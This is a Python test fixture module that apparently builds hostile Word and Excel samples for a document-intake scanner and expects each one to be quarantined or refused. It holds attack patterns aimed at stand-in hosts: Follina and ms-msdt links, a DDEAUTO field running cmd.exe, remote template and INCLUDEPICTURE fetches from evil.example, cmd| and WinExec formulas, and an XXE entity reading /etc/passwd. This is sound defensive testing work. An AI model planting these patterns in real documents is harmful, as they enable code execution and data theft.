"""Word and Excel files that act, fetch something, or hide something."""

from __future__ import annotations

from collections.abc import Iterator

from tests.intake.honest import docx, packed, pdf, relations, xlsx
from tests.intake.hostile.paper import Hostile

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016)

_OUTSIDE = {
    "a remote template": ("attachedTemplate", "https://evil.example/t.dotm"),
    "Follina": ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
    "a picture elsewhere": ("image", "https://evil.example/x.png"),
    "a picture on a share": ("image", "file://\\\\evil.example\\x.png"),
    "a frame": ("frame", "https://evil.example/"),
    "a part of another document": ("subDocument", "x.docx"),
    "a link to a script": ("hyperlink", "javascript:alert(1)"),
    "a link to a program": ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "a link to a share": ("hyperlink", "\\\\evil.example\\x"),
    "an external workbook": ("externalLinkPath", "https://evil.example/x.xlsx"),
}
_INSIDE = {
    "an embedded workbook": ("package", "embeddings/x.xlsx"),
    "an embedded object": ("oleObject", "embeddings/oleObject1.bin"),
    "macros": ("vbaProject", "vbaProject.bin"),
    "macros under another name": ("vbaProject", "media/picture.dat"),
    "ActiveX": ("control", "activeX/activeX1.xml"),
    "a chunk of a web page": ("aFChunk", "chunk.html"),
    "a web extension": ("webExtension", "webextension.xml"),
}
_FIELDS = {
    "DDE": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"',
    "a picture by a field": 'INCLUDEPICTURE "https://evil.example/x.png"',
    "a text by a field": 'INCLUDETEXT "\\\\\\\\evil.example\\\\x.docx"',
    "a link by a field": "LINK Excel.Sheet.8 x.xlsx",
    "a macro by a field": "MACROBUTTON Evil click",
}


def _field(code: str) -> str:
    pieces = [code[n : n + 3] for n in range(0, len(code), 3)]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>' for each in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def papers() -> Iterator[Hostile]:
    """All of them."""
    for name, (kind, target) in _OUTSIDE.items():
        part = relations((kind, target, True))
        yield Hostile(f"{name} in Word", "a.docx", docx({"word/_rels/document.xml.rels": part}), "quarantined")
        yield Hostile(f"{name} in Excel", "a.xlsx", xlsx({"xl/_rels/workbook.xml.rels": part}), "quarantined")
        settings = docx({"word/_rels/settings.xml.rels": part})
        yield Hostile(f"{name} of the settings", "a.docx", settings, "quarantined")
    for name, (kind, target) in _INSIDE.items():
        for folder, make, filename in (("word", docx, "a.docx"), ("xl", xlsx, "a.xlsx")):
            parts = {f"{folder}/_rels/x.xml.rels": relations((kind, target, False)), f"{folder}/{target}": OLE}
            yield Hostile(f"{name} in {folder}", filename, make(parts), "quarantined")
    for name, code in _FIELDS.items():
        yield Hostile(f"{name}, in pieces", "a.docx", docx(body=_field(code)), "quarantined")
        simple = f"<w:p><w:fldSimple w:instr='{code}'/></w:p>"
        yield Hostile(f"{name}, in one", "a.docx", docx(body=simple), "quarantined")
    for name, place, content in (
        ("a program", "word/media/x.png", b"MZ\x90\0"),
        ("a program by its name", "word/x.exe", b"MZ\x90\0"),
        ("an archive", "word/media/image2.png", packed({"a": b"b"})),
        ("a PDF", "word/media/image2.png", pdf()),
        ("an old office file", "word/media/image2.png", OLE),
        ("a script", "word/x.js", b"var x = 1"),
        ("Power Query", "customXml/item1.xml", "<DataMashup xmlns='x'>A</DataMashup>".encode("utf-16")),
    ):
        yield Hostile(f"{name} in Word", "a.docx", docx({place: content}), "quarantined")
        in_excel = xlsx({place.replace("word/", "xl/"): content})
        yield Hostile(f"{name} in Excel", "a.xlsx", in_excel, "quarantined")
    for name, formula in {
        "WEBSERVICE": "WEBSERVICE(&quot;https://evil.example/&quot;)",
        "a formula that starts a program": "cmd|'/c calc'!A0",
        "RTD": "RTD(&quot;evil&quot;,,1)",
        "CALL": "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;)",
    }.items():
        row = f'<row r="2"><c r="A2"><f>{formula}</f></c></row>'
        yield Hostile(name, "a.xlsx", xlsx(rows=row), "quarantined")
    for name, content_type in {
        "a type with macros": "application/vnd.ms-word.document.macroEnabled.main+xml",
        "a type of macros": "application/vnd.ms-office.vbaProject",
        "Excel 4.0 macros": "application/vnd.ms-excel.macrosheet+xml",
        "a type of ActiveX": "application/vnd.ms-office.activeX+xml",
    }.items():
        yield Hostile(f"{name} in Word", "a.docx", docx(types=(content_type,)), "quarantined")
        yield Hostile(f"{name} in Excel", "a.xlsx", xlsx(types=(content_type,)), "quarantined")
    sheet = {"xl/_rels/workbook.xml.rels": relations(("xlMacrosheet", "macrosheets/sheet1.xml", False))}
    yield Hostile("a sheet of macros", "a.xlsx", xlsx(sheet), "quarantined")
    entities = b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"
    for name, part_content in {
        "entities": entities,
        "an external entity": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "laughs": b"<!DOCTYPE a [<!ENTITY b '" + b"&c;" * 9 + b"'><!ENTITY c 'ha'>]><a>&b;</a>",
        "XML that is not closed": b"<a><b></a>",
        "an unknown encoding": b"<?xml version='1.0' encoding='gbk'?><a/>",
    }.items():
        yield Hostile(f"{name} in Word", "a.docx", docx({"word/styles.xml": part_content}), "refused")
        yield Hostile(f"{name} in Excel", "a.xlsx", xlsx({"xl/styles.xml": part_content}), "refused")
        yield Hostile(f"{name} in relations", "a.docx", docx({"word/_rels/x.rels": part_content}), "refused")
    locked = OLE + "EncryptedPackage".encode("utf-16-le") + bytes(512)
    yield Hostile("Word under a password", "a.docx", locked, "quarantined", "password")
    yield Hostile("Excel under a password", "a.xlsx", locked, "quarantined", "password")
    for stream in ("WordDocument", "Workbook", "_VBA_PROJECT"):
        old = OLE + stream.encode("utf-16-le") + bytes(512)
        yield Hostile(f"an old office file: {stream}", "a.doc", old, "refused", "old Word or Excel")
    slides = packed({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"})
    yield Hostile("slides", "a.pptx", slides, "refused")
    yield Hostile("OpenDocument", "a.odt", packed({"mimetype": b"application/vnd.oasis.opendocument.text"}), "refused")
